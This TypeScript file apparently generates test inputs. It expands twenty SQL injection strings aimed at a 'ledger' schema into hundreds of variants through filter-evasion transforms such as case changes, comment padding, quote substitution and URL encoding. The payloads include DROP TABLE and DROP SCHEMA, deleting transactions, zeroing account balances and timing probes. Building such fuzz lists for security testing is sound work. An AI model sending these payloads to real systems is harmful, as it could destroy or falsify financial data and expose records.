/** Texts that a program which puts values into SQL would run. */
const commands = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE transactions; --",
  "'; DELETE FROM ledger.transactions; --",
  "'); DELETE FROM ledger.transactions; --",
  "' UNION SELECT id, id, id FROM ledger.transactions --",
  "'; UPDATE ledger.accounts SET balance = 0; --",
  "' AND 1 = (SELECT count(*) FROM pg_sleep(5)) --",
  "'; COMMIT; DROP SCHEMA ledger CASCADE; --",
  "'||(SELECT current_user)||'",
  '" OR ""="',
  '"; DROP SCHEMA ledger; --',
  '$1',
  '$$; DROP TABLE transactions; $$',
  "E'\\'; DROP TABLE transactions; --'",
  "\\'; DROP TABLE transactions; --",
  '/* */ OR 1=1',
  '0; SELECT pg_terminate_backend(pg_backend_pid())',
  "1' ORDER BY 1 --",
  "%' OR id LIKE '%",
];

/** Ways in which filters are passed by: other cases, comments, encodings and blanks. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.toLowerCase(),
  (text) => text.replaceAll(' ', '/**/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll("'", "''"),
  (text) => text.replaceAll("'", "\\'"),
  (text) => text.replaceAll("'", '\u2019'),
  (text) => text.replaceAll("'", '\uff07'),
  (text) => encodeURIComponent(text),
  (text) => `a${text}`,
  (text) => `${text}\r\n`,
  (text) => `1${text}--`,
  (text) => `'${text}'`,
  (text) => `"${text}"`,
  (text) => `(${text})`,
  (text) => `${text};${text}`,
  (text) => text.split('').reverse().join(''),
  (text) => text.replaceAll(' ', '+'),
  (text) => text.replaceAll('-', '#'),
  (text) => `\\${text}`,
  (text) => `{{${text}}}`,
  (text) => `\${${text}}`,
  (text) => text.replaceAll("'", '"'),
  (text) => `${text}\\`,
];

/** More than five hundred payloads, each once. */
export const sqlPayloads: readonly string[] = [
  ...new Set(commands.flatMap((command) => disguises.map((disguise) => disguise(command)))),
];
